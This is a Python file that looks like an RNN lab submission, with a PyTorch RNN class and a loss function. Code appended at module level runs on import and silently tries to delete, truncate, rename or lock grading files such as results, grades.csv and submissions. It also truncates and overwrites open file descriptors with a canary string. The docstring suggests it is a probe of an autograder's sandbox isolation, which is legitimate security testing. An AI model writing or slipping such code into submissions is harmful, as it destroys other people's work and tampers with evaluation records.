"""
tries: truncates, removes, renames and opens for writing whatever it finds: submissions, results, the kit, its own source
success: a neighbour's file that changed
expect: max=20
"""

import torch
import torch.nn.functional as F
from torch import nn


import os
import shutil


class RNN(nn.Module):
    def __init__(self, dim, latent, output):
        super().__init__()
        self.W_i = nn.Linear(dim, latent)
        self.W_h = nn.Linear(latent, latent, bias=False)
        self.decoder = nn.Linear(latent, output)

    def one_step(self, x, h):
        return torch.tanh(self.W_i(x) + self.W_h(h))

    def forward(self, x, h):
        states = []
        for t in range(x.shape[0]):
            h = self.one_step(x[t], h)
            states.append(h)
        return torch.stack(states)

    def decode(self, h):
        return self.decoder(h)


def training_loss(model, x, h0, y):
    states = torch.cat([h0[None], model(x, h0)[:-1]])
    y_hat = model.decode(states)
    if y.is_floating_point():
        return F.mse_loss(y_hat, y)
    return F.cross_entropy(y_hat.reshape(-1, y_hat.shape[-1]), y.reshape(-1))


for pattern in ("results", "grades.csv", "report.html", "answers", "feedback", "out/results", "OUT/results", "submissions", "../submissions"):
    for way in (os.remove, os.rmdir, lambda p: shutil.rmtree(p), lambda p: os.truncate(p, 0), lambda p: os.rename(p, p + ".rnn-lab-canary"), lambda p: os.chmod(p, 0)):
        try:
            way(pattern)
        except BaseException:
            pass
for fd in range(3, 64):
    for way in (lambda f: os.ftruncate(f, 0), lambda f: os.fchmod(f, 0), lambda f: os.pwrite(f, b"rnn-lab-canary", 0)):
        try:
            way(fd)
        except BaseException:
            pass
